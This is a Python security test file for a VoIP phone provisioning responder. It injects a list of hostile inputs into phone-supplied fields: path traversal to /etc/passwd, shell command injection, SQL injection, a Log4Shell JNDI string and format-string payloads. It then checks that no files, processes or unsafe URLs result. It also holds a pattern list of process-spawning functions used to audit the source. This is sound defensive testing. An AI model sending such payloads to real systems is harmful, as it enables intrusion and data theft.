"""T17: text of a phone names no file, and is part of no command: there is none to be part of."""

from __future__ import annotations

import ast
import re
from pathlib import Path

from pnp_responder.cli.demo_phone import subscribe_of
from pnp_responder.datagram import SocketAddress
from tests.cli.program import running
from tests.net.loopback import phone_socket

PACKAGE = Path(__file__).parents[2] / "pnp_responder"
STRINGS = [
    "../../../../tmp/owned",
    "..%2f..%2fowned",
    "/etc/passwd",
    "....//owned",
    "..\\owned",
    "file:///owned",
    "$(touch owned)",
    "`touch owned`",
    "; touch owned;",
    "| touch owned",
    "&& touch owned",
    "$IFS$9owned",
    "' OR '1'='1",
    "'; DROP TABLE phones;--",
    "${jndi:ldap://192.0.2.9/a}",
    "{{ mac }}",
    "%(mac)s%n%s%x",
    "-rf",
    "--help",
    "~root/owned",
    "*",
]
RULES = """
rules:
  - name: all
    url: "http://{{ local_ip }}/{{ vendor }}/{{ model }}/{{ version }}/{{ profile_type }}"
"""
MODULES = {"subprocess", "pty", "sqlite3", "pickle", "marshal", "shelve", "multiprocessing"}
FUNCTIONS = re.compile(
    r"system|popen|posix_spawnp?|forkp?t?y?|exec[vl]p?e?|spawn[vl]p?e?|create_subprocess_.*"
)
RUNS_COMMANDS = {"doctor/read_firewall.py", "doctor/read_unit.py"}


def test_no_file_no_process_and_no_path_out_of_place(tmp_path: Path) -> None:
    folder = tmp_path / "work"
    folder.mkdir()
    rules = folder / "rules.yaml"
    rules.write_text(RULES)
    words = ["--interface", "lo", "--record", str(folder / "r.pcap"), "--log-level", "debug"]
    with running(folder, rules, *words) as it, phone_socket() as phone:
        it.hear("READY=1")
        octets = subscribe_of(SocketAddress(*phone.getsockname()))
        served = 0
        for number, text in enumerate(STRINGS):
            said = octets.replace(b"24733", b"%05d" % number).replace(b"88724467", b"%08d" % number)
            for old in (b"Fanvil", b"VOIP PHONE", b"V2.0.114.51", b"voip phone"):
                said = said.replace(old, text.encode())
            phone.sendto(said, ("224.0.1.75", it.port))
            head, body = b"", b""
            while not head.startswith(b"NOTIFY "):
                head, _, body = phone.recv(65535).partition(b"\r\n\r\n")
            path = body.decode().removeprefix("http://127.0.0.1/")
            assert path.count("/") == 3, path
            assert not set(path) & set(" ?#;&|`$'\"\\<>(){}\n"), path
            served += 1
        assert served == len(STRINGS)
        tasks = Path(f"/proc/{it.process.pid}/task")
        assert all((task / "children").read_text() == "" for task in tasks.iterdir())
        assert it.end() == 0
        left = {path.name for path in tmp_path.rglob("*") if path.is_file()}
        assert left == {"rules.yaml", "log", "r.pcap"}
    assert not Path("/tmp/owned").exists()  # noqa: S108


def test_only_the_doctor_runs_a_program() -> None:
    """And that for an administrator who asks, with words of its own."""
    found = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import):
                runs = any(alias.name in MODULES for alias in node.names)
            elif isinstance(node, ast.ImportFrom):
                runs = node.module in MODULES
            else:
                runs = isinstance(node, ast.Attribute) and FUNCTIONS.fullmatch(node.attr) is not None
            if runs:
                found.add(path.relative_to(PACKAGE).as_posix())
    assert found == RUNS_COMMANDS
